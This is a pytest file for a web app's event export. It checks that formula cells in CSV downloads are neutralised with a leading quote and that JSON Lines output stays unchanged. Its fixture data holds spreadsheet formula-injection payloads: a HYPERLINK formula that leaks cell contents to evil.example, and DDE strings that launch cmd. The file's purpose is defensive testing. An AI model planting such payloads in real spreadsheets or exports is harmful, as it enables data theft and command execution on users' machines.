"""The explorer's downloads: CSV cells a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import orjson
import pytest

from tests.support.server import LiveServer, run_server
from tests.ui.client import signed_in

ATTACKS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    with run_server(tmp_path_factory.mktemp("export"), "sqlite") as server:
        with server.client() as api:
            events = [
                {
                    "event_type": "tool",
                    "event_name": text,
                    "error": text,
                    "metadata": {"kind": kind, "delta": -1.5, "label": "-12"},
                }
                for kind, text in ATTACKS.items()
            ]
            assert api.post("/events/batch", json={"events": events}).status_code == 200
        yield server


def test_csv_export_neutralises_formula_cells_and_keeps_numbers(live: LiveServer) -> None:
    cols = ["event_name", "error", "metadata.kind", "metadata.delta", "metadata.label"]
    with signed_in(live.url, live.key) as browser:
        project = browser.get("/").headers["location"].split("/")[2]
        answer = browser.get(
            f"/p/{project}/events/export.csv", params={"col": cols, "type": "tool"}
        )
        jsonl = browser.get(f"/p/{project}/events/export.jsonl", params={"type": "tool"})
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == len(ATTACKS)
    for row in rows:
        text = ATTACKS[row["metadata.kind"]]
        assert row["event_name"] == row["error"] == "'" + text
        assert row["metadata.delta"] == "-1.5" and row["metadata.label"] == "-12"
    assert all(line.startswith('"') for line in answer.text.splitlines()), "unquoted field"
    # JSON Lines is data, not a spreadsheet: values stay as they were sent.
    names = {orjson.loads(line)["event_name"] for line in jsonl.text.splitlines()}
    assert names == set(ATTACKS.values())
